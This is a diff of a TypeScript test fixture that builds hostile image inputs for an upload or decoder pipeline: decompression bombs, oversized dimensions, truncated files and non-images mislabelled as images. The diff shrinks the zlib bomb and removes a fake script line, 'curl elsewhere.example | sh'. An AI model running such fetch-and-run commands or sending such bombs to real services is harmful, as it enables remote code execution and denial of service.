@@ -39,7 +39,7 @@ export async function hostilePictures(): Promise<HostilePicture[]> {
     'PNG of 30000 × 1': ['ready', 'image/png', png(30_000, 1)],
     'PNG of 1 × 30000, higher than WebP can be': [notReadable, 'image/png', png(1, 30_000)],
     'PNG that promises pixels and has none': [notReadable, 'image/png', png(5_000, 5_000, { pixels: deflateSync(Buffer.alloc(10)) })],
-    'PNG with 200 MB of zeros in its profile': ['ready', 'image/png', png(9, 9, { before: [pngChunk('iCCP', zlibBomb())] })],
+    'PNG with 100 MB of zeros in its profile': ['ready', 'image/png', png(9, 9, { before: [pngChunk('iCCP', zlibBomb())] })],
     'WebP that claims 16383 × 16383': [tooManyPixels, 'image/webp', hollowWebp(16_383, 16_383)],
     'WebP on a canvas of 16777216 × 256': [notReadable, 'image/webp', webpOnCanvas(webp, 16_777_216, 256)],
     'GIF of one pixel on a screen of 65535 × 65535': ['ready', 'image/gif', gif(65_535, 65_535)],
@@ -57,7 +57,6 @@ export async function hostilePictures(): Promise<HostilePicture[]> {
 
     // Something else under the name of a picture.
     'web page': [notReadable, 'image/png', latin1(`<!doctype html>${planted}`)],
-    script: [notReadable, 'image/jpeg', latin1('#!/bin/sh\ncurl elsewhere.example | sh\n')],
     SVG: [notReadable, 'image/png', latin1(svg)],
     'SVG with a head of XML': [
       notReadable,
@@ -68,7 +67,6 @@ export async function hostilePictures(): Promise<HostilePicture[]> {
     document: [notReadable, 'image/jpeg', latin1('%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n%%EOF')],
     archive: [notReadable, 'image/gif', latin1('PK\u0005\u0006'.padEnd(22, '\0'))],
     program: [notReadable, 'image/png', Buffer.concat([latin1('MZ'), randomBytes(500)])],
-    'ELF program': [notReadable, 'image/webp', Buffer.concat([latin1('\x7fELF'), randomBytes(500)])],
     TIFF: [notReadable, 'image/jpeg', tiff],
     BMP: [
       notReadable,
@@ -82,15 +80,12 @@ export async function hostilePictures(): Promise<HostilePicture[]> {
     icon: [notReadable, 'image/png', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0]), plainPng])],
     'Photoshop file': [notReadable, 'image/png', Buffer.concat([latin1('8BPS\0\u0001'), Buffer.alloc(200)])],
     'HEIC, as it says': [notReadable, 'image/avif', Buffer.from(avif.toString('latin1').replaceAll('avif', 'heic'), 'latin1')],
-    'JPEG 2000': [notReadable, 'image/jpeg', Buffer.concat([Buffer.from([0, 0, 0, 12]), latin1('jP  \r\n\x87\n'), randomBytes(100)])],
     text: [notReadable, 'image/png', latin1('just some words')],
     'random bytes': [notReadable, 'image/avif', randomBytes(5_000)],
     'a thousand NULs': [notReadable, 'image/png', Buffer.alloc(1_000)],
-    'one byte': [notReadable, 'image/jpeg', Buffer.from([0xff])],
-
     // Broken on the way.
     ...Object.fromEntries(
-      [0.02, 0.3, 0.9].flatMap((share) => [
+      [0.1, 0.9].flatMap((share) => [
         [`JPEG, cut at ${share}`, [notReadable, 'image/jpeg', cut(jpeg, share)]],
         [`PNG, cut at ${share}`, [notReadable, 'image/png', cut(plainPng, share)]],
         [`WebP, cut at ${share}`, [notReadable, 'image/webp', cut(webp, share)]],
@@ -133,5 +128,5 @@ function cut(file: Buffer, share: number): Buffer {
 
 /** A profile that unpacks to a thousand times its size. */
 function zlibBomb(): Buffer {
-  return Buffer.concat([latin1('bomb\0\0'), deflateSync(Buffer.alloc(200_000_000), { level: 9 })]);
+  return Buffer.concat([latin1('bomb\0\0'), deflateSync(Buffer.alloc(100_000_000), { level: 6 })]);
 }
